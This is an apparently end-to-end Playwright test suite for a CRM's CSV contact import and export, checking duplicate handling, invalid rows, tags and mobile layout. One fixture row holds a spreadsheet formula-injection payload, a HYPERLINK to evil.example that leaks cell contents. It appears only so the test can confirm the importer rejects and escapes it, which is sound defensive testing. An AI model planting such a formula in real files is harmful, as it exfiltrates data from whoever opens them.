"""CSV in and out from the state `make run` leaves, driven only through the page.

The import's file is made here (as another CRM would have written it: Windows-1252, semicolon-separated, with
duplicates of the agent's own contacts and invalid rows); sparksim's control API is only read, to build the file's
duplicates and to check what reached flexmls.
"""

from __future__ import annotations

import csv
import io
import re

import pytest
from playwright.sync_api import expect

from tests.e2e.conftest import PHONE, no_sideways_scroll
from tests.e2e.test_bulk_journeys import LONG, open_contacts

pytestmark = [pytest.mark.e2e, pytest.mark.worker]

HEADERS = ["First Name", "Last Name", "E-mail Address", "Mobile Phone", "Lead Source", "Categories", "Notes"]


def _import_file(existing: list[dict]) -> tuple[bytes, dict]:
    """500 rows: 440 new contacts (12 of them "Quill"), 20 already in flexmls, 10 twice in the file, 30 invalid."""
    rows, new = [], []
    for i in range(440):
        last = "Quill" if i < 12 else f"Importé{i:03d}"
        row = [f"Zoë{i:03d}", last, f"import{i:03d}@example.com", f"512-555-{i:04d}", "Open house", "Buyers",
               "Café — met at the open house" if i % 7 == 0 else ""]
        rows.append(row)
        new.append(row)
    with_email = [c for c in existing if c.get("PrimaryEmail")][:20]
    assert len(with_email) == 20, "the demo agent has contacts with e-mails"
    rows += [["Old", c["DisplayName"], c["PrimaryEmail"].upper(), "", "", "", ""] for c in with_email]
    rows += [[r[0], "Again", r[2], "", "", "", ""] for r in new[100:110]]
    rows += [["", "", f"noname{i}@example.com", "", "", "", ""] for i in range(10)]
    rows += [[f"Bad{i}", "Mail", f"bad{i}@", "", "", "", ""] for i in range(10)]
    rows += [['=HYPERLINK("http://evil.example/?x="&A1,"click")', "X", f"f{i}@example.com", "", "", "", ""]
             for i in range(5)]
    rows += [["A" * 40, "B" * 40, f"long{i}@example.com", "", "", "", ""] for i in range(5)]
    assert len(rows) == 500
    out = io.StringIO()
    writer = csv.writer(out, delimiter=";", lineterminator="\r\n")
    writer.writerow(HEADERS)
    writer.writerows(rows)
    return out.getvalue().encode("cp1252"), {"new": new, "invalid": 30, "skipped": 30}


def test_import_500_rows_then_export_the_filtered_list(demo_world, page, screenshot, settings):
    # A file over 4 KB is read by the worker, as a 50,000-row file is with the real limits: the page follows along.
    settings.CSV_IMPORT_INLINE_BYTES, settings.CSV_IMPORT_INLINE_ROWS = 4096, 100
    sim = demo_world.sim
    user_id = sim.account("alice")["user_id"]
    open_contacts(demo_world, page)
    existing = sim.control("GET", f"/_sim/contacts?owner={user_id}&limit=5000").json()["contacts"]
    data, expected = _import_file(existing)

    # Upload: the columns are guessed; one more is mapped by hand, and a tag is added for everyone.
    page.click("#import-csv")
    page.set_input_files("#import-file", files=[{"name": "followupboss.csv", "mimeType": "text/csv", "buffer": data}])
    page.click("#import-upload")
    page.wait_for_url(re.compile(r"/contacts/import/\d+/$"))
    if page.locator("#import-status").count():  # unless the worker was quicker than the page
        screenshot("csv-import-reading")
    expect(page.locator(".meta")).to_contain_text("500 rows", timeout=LONG)  # no reload: the page polls
    expect(page.locator(".meta")).to_contain_text("semicolon-separated")
    for header, field in [("First Name", "GivenName"), ("Last Name", "FamilyName"), ("E-mail Address", "PrimaryEmail"),
                          ("Mobile Phone", "MobilePhoneNumber"), ("Categories", "Tags"), ("Notes", "Note")]:
        expect(page.locator(f"select[data-header='{header}']")).to_have_value(field)
    expect(page.locator("select[data-header='Lead Source']")).to_have_value("")
    page.select_option("select[data-header='Lead Source']", "ReferredBy")
    page.fill("#import-tags", "Imported 2026")
    page.click("#import-preview-button")
    expect(page.locator("#count-create")).to_have_text("440 to create", timeout=LONG)
    expect(page.locator("#count-skip")).to_have_text("30 duplicates skipped")
    expect(page.locator("#count-invalid")).to_have_text("30 invalid")
    expect(page.locator("#invalid-rows")).to_contain_text("DisplayName missing")
    expect(page.locator("#invalid-rows")).to_contain_text("bad e-mail")
    expect(page.locator("#invalid-rows")).to_contain_text("spreadsheet formula")
    expect(page.locator("#invalid-rows")).to_contain_text("flexmls takes at most 75")
    expect(page.locator("#duplicate-rows")).to_contain_text("Already in your contacts as")
    expect(page.locator("#duplicate-rows")).to_contain_text("as line")
    screenshot("csv-import-preview")

    # Run: the progress bar runs to the end, every row with its outcome.
    page.click("#import-run")
    page.wait_for_url(re.compile(r"/contacts/import/\d+/job/"))
    expect(page.locator("#job-summary")).to_contain_text("finished", timeout=180_000)
    expect(page.locator("#outcome-created")).to_have_text("440 created")
    expect(page.locator("#outcome-invalid")).to_have_text("30 invalid")
    expect(page.locator("#outcome-skipped")).to_have_text("30 skipped")
    screenshot("csv-import-done")

    # Every created contact is in flexmls, with its fields and the tags.
    in_spark = {c["PrimaryEmail"]: c for c in
                sim.control("GET", f"/_sim/contacts?owner={user_id}&limit=5000").json()["contacts"]
                if c.get("PrimaryEmail")}
    for first, last, email, mobile, source, _category, _note in expected["new"]:
        contact = in_spark.get(email)
        assert contact is not None, f"{email} is not in flexmls"
        assert contact["DisplayName"] == f"{first} {last}"
        assert contact["MobilePhoneNumber"] == mobile and contact["ReferredBy"] == source
        assert set(contact["Tags"]) >= {"Buyers", "Imported 2026"}
    assert sum(1 for c in in_spark.values() if c.get("PrimaryEmail", "").startswith("import")) == 440

    # The rows that did not import, to fix and import again.
    with page.expect_download() as download:
        page.click("#download-failures")
    text = open(download.value.path(), encoding="utf-8-sig").read()  # noqa: SIM115
    failures = list(csv.reader(io.StringIO(text)))
    assert failures[0] == [*HEADERS, "Import problem"]
    assert len(failures) - 1 == expected["invalid"]
    assert any("'=HYPERLINK" in cell for row in failures for cell in row)  # escaped, never a live formula

    # Export a filtered list: its rows are the page's rows, in the page's order.
    page.goto(demo_world.url + "/contacts/")
    page.fill("#q", "quill")
    page.wait_for_url(re.compile(r"q=quill"))
    page.select_option("#sort", "-name")
    page.wait_for_url(re.compile(r"sort=-name"))
    expect(page.locator(".total")).to_have_text("12 contacts", timeout=LONG)
    shown = [page.locator("tr.contact-row td.name a").nth(i).inner_text() for i in range(12)]
    emails = [page.locator("tr.contact-row td.email").nth(i).inner_text() for i in range(12)]
    with page.expect_download() as download:
        page.click("#export-csv")
    exported = list(csv.DictReader(io.StringIO(open(download.value.path(), encoding="utf-8-sig").read())))  # noqa: SIM115
    assert [r["DisplayName"] for r in exported] == shown
    assert [r["PrimaryEmail"] for r in exported] == emails
    assert all("Imported 2026" in r["Tags"] and r["Id"] for r in exported)
    screenshot("csv-export-list")


def test_import_on_a_phone(demo_world, phone, screenshot):
    """At 390 px the whole import fits the screen: upload, mapping, preview with its reasons, run, result."""
    open_contacts(demo_world, phone)
    rows = [[f"Pocket{i}", "Importer", f"pocket{i}@example.com", f"701-555-01{i:02d}", "", "Phone", ""]
            for i in range(8)]
    rows.append(["", "", "nobody@example.com", "", "", "", ""])  # no name: invalid, with its reason
    rows.append(["Very" * 30, "Long", "x" * 60 + "@example.com", "", "", "", "n" * 400])  # a name over the limit
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(HEADERS)
    writer.writerows(rows)
    phone.click("#import-csv")
    assert no_sideways_scroll(phone) <= PHONE["width"]
    phone.set_input_files("#import-file", files=[{"name": "phone.csv", "mimeType": "text/csv",
                                                  "buffer": out.getvalue().encode()}])
    phone.click("#import-upload")
    expect(phone.locator(".meta")).to_contain_text("10 rows", timeout=LONG)
    assert no_sideways_scroll(phone) <= PHONE["width"]
    screenshot("csv-import-phone-mapping", phone)
    phone.click("#import-preview-button")
    expect(phone.locator("#count-create")).to_have_text("8 to create", timeout=LONG)
    expect(phone.locator("#count-invalid")).to_have_text("2 invalid")
    expect(phone.locator("#invalid-rows")).to_contain_text("DisplayName missing")
    assert no_sideways_scroll(phone) <= PHONE["width"]
    screenshot("csv-import-phone-preview", phone)
    phone.click("#import-run")
    expect(phone.locator("#job-summary")).to_contain_text("finished", timeout=180_000)
    expect(phone.locator("#outcome-created")).to_have_text("8 created")
    assert no_sideways_scroll(phone) <= PHONE["width"]
    screenshot("csv-import-phone-done", phone)
